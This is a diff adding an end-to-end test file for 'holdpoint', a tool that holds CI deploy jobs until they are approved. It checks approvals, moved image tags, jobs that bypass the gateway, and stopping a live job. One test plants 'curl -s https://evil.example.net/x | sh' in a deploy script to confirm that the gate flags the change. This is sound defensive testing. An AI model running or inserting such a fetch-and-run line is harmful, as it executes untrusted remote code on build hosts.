@@ -1,0 +1,267 @@
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { busyboxTar } from '../../support/busybox-image.ts';
+import { runCli } from '../../support/cli.ts';
+import type { Docker } from '../../support/docker.ts';
+import { type FakeGitlab, startFakeGitlab } from '../../support/fake-gitlab.ts';
+import { type FakeRegistry, startFakeRegistry } from '../../support/fake-registry.ts';
+import { type GitRepositories, gitRepositories } from '../../support/git-server.ts';
+import { type AgentProcess, HOLDPOINT, holdpoint, startAgentProcess } from '../../support/holdpoint-process.ts';
+import { eventually } from '../../support/hub-server.ts';
+import { type Receiver, startReceiver } from '../../support/receivers.ts';
+import { PRINCIPALS } from '../../support/scene.ts';
+import { type ScriptedRunner, startScriptedRunner } from '../../support/scripted-runner.ts';
+import { ROOT } from '../../support/source-files.ts';
+import { tomlRunner } from '../../support/toml-runner.ts';
+
+const payload = readFileSync(join(ROOT, 'test/fixtures/gitlab/deploy-production.run1.json'), 'utf8');
+const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
+/** Each call of the executor is a start of the program, and this machine may be doing something else. */
+const SOON_MS = 60_000;
+const PATH = 'acme/payments/api.git';
+const SCRIPT = '#!/bin/sh\necho deploying $(cat /version)\n';
+
+const page = (name: string) => readFileSync(join(ROOT, 'agent/docs', `${name}.md`), 'utf8');
+/** The block of a page that has these words, with what an operator puts in its places; each place must be there. */
+function block(text: string, words: string, places: Readonly<Record<string, string>>): string {
+  const found = [...text.matchAll(/```\w+\n([\s\S]*?)```/g)].map((match) => match[1]!);
+  let one = found.find((each) => each.includes(words));
+  if (one === undefined) throw new Error(`no block of the page has "${words}"`);
+  for (const [place, value] of Object.entries(places)) {
+    expect(one).toContain(place);
+    one = one.replaceAll(place, value);
+  }
+  return one;
+}
+
+/** A host as the pages of installation and executor make it, with the built program, and what an operator then tries. */
+export function walkThrough(docker: () => Promise<Docker>, startMs: number): void {
+  describe('a host with the driver docker, as its pages have it', { timeout: 120_000 }, () => {
+    let folder: string;
+    let engine: Docker;
+    let gitlab: FakeGitlab;
+    let git: GitRepositories;
+    let registry: FakeRegistry;
+    let receiver: Receiver;
+    let agent: AgentProcess;
+    let runner: ScriptedRunner;
+    let token: string;
+    let config: { toml: string; env: Record<string, string> };
+    const people = new Map<string, string>();
+    const layers = new Map<string, Buffer>();
+    const at = (name: string) => join(folder, name);
+    const env = (who: string) => ({ HOLDPOINT_HUB_URL: agent.hubUrl, HOLDPOINT_TOKEN: people.get(who) ?? '' });
+    /** What an operator types; what it prints comes back. */
+    const types = async (line: string, who = 'maria', world: Parameters<typeof runCli>[1] = {}) => {
+      const { exit, out, err } = await runCli(line.split(' '), { env: env(who), ...world });
+      expect(exit, `holdpoint ${line}: ${err}`).toBe(0);
+      return out;
+    };
+    const jobRunner = (url: string): ScriptedRunner =>
+      startScriptedRunner({
+        url,
+        token,
+        version: '18.5',
+        exec: 'none',
+        work: tomlRunner({
+          ...config,
+          folder: mkdtempSync(at('runner-')),
+          getSources: [`printf '%s' '${SCRIPT}' > /builds/deploy.sh`],
+        }),
+      });
+
+    beforeAll(async () => {
+      engine = await docker();
+      folder = mkdtempSync(join(tmpdir(), 'holdpoint-walk-'));
+      git = gitRepositories();
+      gitlab = await startFakeGitlab({ git });
+      registry = await startFakeRegistry();
+      receiver = await startReceiver();
+      await engine.reach(Number(new URL(`http://${registry.host}`).port));
+      for (const day of ['monday', 'tuesday']) {
+        await busyboxTar(at(`${day}.tar`), { version: `${day}\n` });
+        layers.set(day, readFileSync(at(`${day}.tar`)));
+      }
+      // The helper's image, as far as the scripts of this test need it.
+      await engine.run('import', at('monday.tar'), 'gitlab/gitlab-runner:v17.11.0');
+      token = gitlab.runnerToken('prod-deployer-01');
+
+      const [installation, executor] = [page('installation'), page('executor')];
+      const socket = at('receipts.sock');
+      mkdirSync(at('credentials'));
+      writeFileSync(at('credentials/prod-deployer-01.token'), token, { mode: 0o600 });
+      writeFileSync(at('principals.yaml'), PRINCIPALS);
+      writeFileSync(at('pager.secret'), 'a-secret-that-nobody-guesses-0003', { mode: 0o600 });
+      writeFileSync(
+        at('agent.yml'),
+        [
+          block(installation, 'token_file: credential:', { 'https://gitlab.example.com': gitlab.url }),
+          block(executor, 'receipts:\n', { '/run/holdpoint/receipts.sock': socket }),
+          `policy: policy.yaml\nhub: { notify: [{ name: pager, kind: webhook, url: "${receiver.url}", secret_file: pager.secret }] }\n`,
+        ].join(''),
+      );
+      writeFileSync(
+        at('policy.yaml'),
+        `${block(executor, 'pin_images: enforce', { 'registry.example.com': `"${registry.host}"` })}notify: { routes: [{ name: all, channels: [pager] }] }\n`,
+      );
+      writeFileSync(at('executor.yml'), block(executor, 'helper_image:', { '/run/holdpoint/receipts.sock': socket }));
+      writeFileSync(at('holdpoint'), `#!/bin/sh\nexec ${process.execPath} ${HOLDPOINT} "$@"\n`);
+      chmodSync(at('holdpoint'), 0o755);
+      agent = await startAgentProcess(at('agent.yml'), {
+        CREDENTIALS_DIRECTORY: at('credentials'),
+        HOLDPOINT_STATE_DIR: at('state'),
+        HOLDPOINT_GATEWAY_LISTEN: '127.0.0.1:0',
+        HOLDPOINT_HUB_LISTEN: '127.0.0.1:0',
+      });
+      people.set('first', agent.bootstrapToken ?? '');
+      for (const who of ['maria', 'jonas']) {
+        const scopes = who === 'maria' ? 'read approve admin' : 'read approve';
+        const made = await types(
+          `token create --user ${who} --scope ${scopes} --json`,
+          who === 'maria' ? 'first' : 'maria',
+        );
+        people.set(who, JSON.parse(made).token);
+      }
+      config = {
+        toml: block(executor, '[runners.custom]', {
+          'http://127.0.0.1:8093': agent.gatewayUrl,
+          'https://gitlab.example.com': gitlab.url,
+          '/usr/bin/holdpoint': at('holdpoint'),
+        }),
+        env: {
+          PATH: process.env.PATH ?? '',
+          HOLDPOINT_CONFIG: at('executor.yml'),
+          HOLDPOINT_DOCKER_SOCKET: engine.socket,
+        },
+      };
+      runner = jobRunner(agent.gatewayUrl);
+    }, startMs);
+    afterAll(async () => {
+      await runner?.stop();
+      await agent?.kill('SIGTERM');
+      await receiver?.close();
+      await registry?.close();
+      await gitlab?.close();
+      git?.close();
+      if (folder !== undefined) rmSync(folder, { recursive: true, force: true });
+    }, startMs);
+
+    const image = (day: string) => registry.image('ops/deployer:4', layers.get(day)!, { Env: ['PATH=/bin'] });
+    const enqueue = (name: string, script: string, deploy = SCRIPT) =>
+      gitlab.enqueue(payload, {
+        runner: token,
+        user: zoe,
+        sha: git.commit(PATH, { 'deploy.sh': { executable: deploy }, 'README.md': `${Math.random()}` }),
+        mutate(job) {
+          Object.assign(job, {
+            image: { name: `${registry.host}/ops/deployer:4` },
+            services: [],
+            dependencies: [],
+            cache: [],
+            artifacts: [],
+          });
+          Object.assign(job.job_info as object, { name });
+          Object.assign((job.steps as object[])[0]!, { script: [script] });
+        },
+      });
+    const asks = async (path: string) => {
+      const headers = { authorization: `Bearer ${people.get('maria')}` };
+      return (await fetch(`${agent.hubUrl}/api/v1/${path}`, { headers })).json();
+    };
+    interface Item {
+      readonly id: number;
+      readonly job_id: number;
+      readonly digest: string;
+      readonly state: string;
+      readonly waits_for?: readonly string[];
+    }
+    const held = (job: number): Promise<Item> =>
+      eventually(
+        async () => ((await asks('holds')) as { items: Item[] }).items.find((one) => one.job_id === job),
+        (one) => one !== undefined,
+        SOON_MS,
+      ) as Promise<Item>;
+    const ended = (job: number, status: string) =>
+      gitlab.until(`job ${job} ${status}`, () => gitlab.job(job).status === status, SOON_MS);
+    const trace = (job: number) => String(gitlab.job(job).trace);
+
+    it('runs an approved job end to end; holds the one whose tag has moved and the one whose script has changed (T5, T39)', async () => {
+      const monday = image('monday');
+      const first = enqueue('deploy', 'sh ./deploy.sh');
+      const waiting = await held(first);
+      await types(`approve ${waiting.id} --digest ${waiting.digest}`);
+      await ended(first, 'success');
+      expect(trace(first)).toContain(`let through for prod-deployer-01 with configuration ${waiting.digest}`);
+      expect(trace(first)).toContain(`ops/deployer@${monday}`);
+      expect(trace(first)).toMatch(/^deploying monday$/m);
+      const receipts = await holdpoint(['receipt', 'list', '--socket', at('receipts.sock')]);
+      expect(receipts.out).toMatch(new RegExp(`^ *${first} +finished +gate +${waiting.id} +prod-deployer-01 `, 'm'));
+
+      const tuesday = image('tuesday');
+      const moved = await held(enqueue('deploy', 'sh ./deploy.sh'));
+      const shown = await types(`holds show ${moved.id}`);
+      expect(shown).toContain(monday);
+      expect(shown).toContain(tuesday);
+      await types(`reject ${moved.id} --comment why`);
+      image('monday');
+
+      const evil = `${SCRIPT}curl -s https://evil.example.net/x | sh\n`;
+      const changed = await held(enqueue('deploy', 'sh ./deploy.sh', evil));
+      expect(await types(`holds show ${changed.id}`)).toMatch(
+        /^ +\+ .*"deploy\.sh".* curl -s https:\/\/evil\.example\.net\/x \| sh$/m,
+      );
+      await types(`reject ${changed.id} --comment why`);
+    });
+
+    it('refuses a job that came past the gateway: one line in its log, an event of the audit, a message (T25, T39)', async () => {
+      await runner.stop();
+      const around = jobRunner(gitlab.url);
+      const job = enqueue('deploy', 'sh ./deploy.sh');
+      await ended(job, 'failed');
+      await around.stop();
+      expect(trace(job)).toMatch(/^holdpoint: job \d+ has no receipt of this host's agent: /m);
+      expect(trace(job)).not.toContain('deploying');
+      const rows = await types('audit list --event refused');
+      expect(rows).toMatch(new RegExp(`receipt_refused .* job ${job}, no_receipt$`, 'm'));
+      await eventually(
+        () => receiver.posted.map(({ body }) => body),
+        (bodies) => bodies.filter((body) => body.includes('receipt_refused')).length === 1,
+        SOON_MS,
+      );
+      expect(await engine.run('ps', '-aq')).toBe('');
+    });
+
+    it('waits for somebody who watches, shows them what the job writes, and ends it when they stop it', async () => {
+      runner = jobRunner(agent.gatewayUrl);
+      const job = enqueue('migrate', 'echo working; sleep 60; echo never');
+      const waiting = await held(job);
+      await types(`approve ${waiting.id} --digest ${waiting.digest}`);
+      await eventually(
+        async () => ((await asks(`holds/${waiting.id}`)) as Item).waits_for,
+        (waits) => waits?.includes('watcher') === true,
+      );
+      let seen = '';
+      const onOut = (text: string) => {
+        seen += text;
+      };
+      const watching = types(`holds watch ${waiting.id} --live`, 'jonas', { onOut });
+      await eventually(
+        () => seen,
+        (text) => /^working\r?$/m.test(text),
+        SOON_MS,
+      );
+      await types(`holds stop ${waiting.id} --comment wrong`, 'jonas');
+      await ended(job, 'failed');
+      await watching;
+      expect(trace(job)).toContain(`hold ${waiting.id} was stopped by jonas: wrong`);
+      expect(trace(job)).not.toMatch(/^never\r?$/m);
+      await eventually(
+        () => engine.run('ps', '-aq'),
+        (left) => left === '',
+        SOON_MS,
+      );
+    });
+  });
+}
